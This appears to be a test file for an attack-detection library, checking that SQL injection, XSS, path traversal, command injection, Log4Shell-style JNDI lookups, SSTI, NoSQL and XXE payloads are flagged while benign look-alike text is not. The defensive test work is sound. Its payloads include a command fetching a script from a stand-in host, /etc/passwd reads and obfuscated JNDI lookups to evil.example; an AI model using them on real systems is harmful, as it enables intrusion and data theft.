@@ -1,0 +1,115 @@
+// Each detector on attacks of its category and on ordinary values that look a little like them.
+import { q, category, rule } from "../detect/testing";
+
+describe("SQL injection", () => {
+  it("finds tautologies, UNION, stacked queries, comments after a closed literal and attack functions", () => {
+    expect(category(q("1' or '1'='1"))).toBe("sqli");
+    expect(category(q("admin'--"))).toBe("sqli");
+    expect(rule(q("-1 union select 1,2,version()"))).toBe("sqli.union");
+    expect(category(q("1; drop table users--"))).toBe("sqli");
+    expect(category(q("1 and sleep(5)"))).toBe("sqli");
+    expect(category(q("1) and elt(4249=4249,7259) and (8226=8226"))).toBe("sqli");
+    expect(category(q("x\" or \"a\"=\"a"))).toBe("sqli");
+    expect(category(q("'; exec master..xp_cmdshell 'ping 10.10.1.2'--"))).toBe("sqli");
+    expect(category(q("1 order by 3--"))).toBe("sqli");
+    expect(category(q("(select load_file('/etc/passwd'))"))).toBe("sqli");
+  });
+
+  it("leaves prose, names and product text alone", () => {
+    expect(category(q("D AND D DICE"))).toBe("none");
+    expect(category(q("Family and friends having meal outdoors"))).toBe("none");
+    expect(category(q("O'Reilly and Sons"))).toBe("none");
+    expect(category(q("JACK-O'-LANTERN?"))).toBe("none");
+    expect(category(q("Same as reward #1 however"))).toBe("none");
+    expect(category(q("Apt is gated; call when you get here"))).toBe("none");
+    expect(category(q("rock 'n' roll or jazz"))).toBe("none");
+    expect(category(q("2 or 3 bedrooms"))).toBe("none");
+  });
+});
+
+describe("XSS", () => {
+  it("finds script tags, event handlers, script URLs, payload calls and CSS expressions", () => {
+    expect(rule(q("<script>alert(1)</script>"))).toBe("xss.script-tag");
+    expect(rule(q("<img src=x onerror=alert(1)>"))).toBe("xss.event-handler");
+    expect(rule(q("\" onmouseover=\"alert(1)"))).toBe("xss.event-handler");
+    expect(category(q("<a href=\"javascript:alert(document.cookie)\">x</a>"))).toBe("xss");
+    expect(category(q("<svg/onload=prompt`1`>"))).toBe("xss");
+    expect(category(q("<div style=\"width: expression(alert(1))\">"))).toBe("xss");
+    expect(category(q("<iframe src=//evil.example>"))).toBe("xss");
+    expect(category(q("[1].some(confirm)"))).toBe("xss");
+  });
+
+  it("leaves text with angle brackets, colons and the word JavaScript alone", () => {
+    expect(category(q("I <3 <3 THE DOCTOR"))).toBe("none");
+    expect(category(q("JavaScript: Basics of JavaScript Language"))).toBe("none");
+    expect(category(q("a < b and c > d"))).toBe("none");
+    expect(category(q("online=yes"))).toBe("none");
+    expect(category(q("<b>bold</b> text"))).toBe("none");
+  });
+});
+
+describe("path traversal and file inclusion", () => {
+  it("finds dot-dot steps, sensitive files and wrappers", () => {
+    expect(rule(q("../../../../etc/passwd"))).toBe("traversal.dot-dot");
+    expect(category(q("..\\..\\windows\\win.ini"))).toBe("traversal");
+    expect(rule(q("/etc/shadow"))).toBe("traversal.sensitive-file");
+    expect(rule(q("php://filter/convert.base64-encode/resource=index.php"))).toBe("traversal.wrapper");
+    expect(category(q("file:///etc/passwd"))).toBe("traversal");
+    expect(category(q("....//....//etc/hosts"))).toBe("traversal");
+    expect(category(q("WEB-INF/web.xml"))).toBe("traversal");
+  });
+
+  it("leaves ellipses, relative words and ordinary paths alone", () => {
+    expect(category(q("wait..."))).toBe("none");
+    expect(category(q("..."))).toBe("none");
+    expect(category(q("images/2024/photo.jpg"))).toBe("none");
+    expect(category(q("c/ caridad s/n"))).toBe("none");
+  });
+});
+
+describe("command injection", () => {
+  it("finds chained commands, substitutions, $IFS and shellshock", () => {
+    expect(category(q("; cat /etc/passwd"))).toBe("cmdi");
+    expect(category(q("| id"))).toBe("cmdi");
+    expect(category(q("127.0.0.1 && whoami"))).toBe("cmdi");
+    expect(category(q("`uname -a`"))).toBe("cmdi");
+    expect(category(q("$(curl http://x.example/s.sh)"))).toBe("cmdi");
+    expect(rule(q("cat${IFS}/etc/passwd"))).toBe("cmdi.ifs");
+    expect(rule(q("() { :;}; /bin/bash -c id"))).toBe("cmdi.shellshock");
+    expect(category(q("; c'a't /e't'c/hosts"))).toBe("cmdi");
+    expect(category(q("&& net user hacker Passw0rd /add"))).toBe("cmdi");
+    expect(category(q("whoami"))).toBe("cmdi");
+  });
+
+  it("leaves lists, ampersands and English command words alone", () => {
+    expect(category(q("Tom & Jerry"))).toBe("none");
+    expect(category(q("salt & pepper; more to come"))).toBe("none");
+    expect(category(q("Java; PHP; Python"))).toBe("none");
+    expect(category(q("id"))).toBe("none");
+    expect(category(q("find the best cat food"))).toBe("none");
+  });
+});
+
+describe("JNDI lookups", () => {
+  it("finds plain and obfuscated lookups", () => {
+    expect(category(q("${jndi:ldap://evil.example/a}"))).toBe("jndi");
+    expect(category(q("${${lower:j}ndi:ldap://evil.example/a}"))).toBe("jndi");
+    expect(category(q("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"))).toBe("jndi");
+    expect(category(q("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"))).toBe("jndi");
+    expect(category(q("${${upper:j}${lower:N}di:dns://x}"))).toBe("jndi");
+  });
+
+  it("leaves template-looking text alone", () => {
+    expect(category(q("price: ${amount} EUR"))).toBe("none");
+    expect(category(q("{ \"a\": 1 }"))).toBe("none");
+  });
+});
+
+describe("extras: SSTI, NoSQL injection, XXE", () => {
+  it("finds them", () => {
+    expect(category(q("{{7*7}}"))).toBe("ssti");
+    expect(category(q("{{ ''.__class__.__mro__[1].__subclasses__() }}"))).toBe("ssti");
+    expect(category(q("{\"$gt\": \"\"}"))).toBe("nosqli");
+    expect(category(q("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"))).toBe("xxe");
+  });
+});
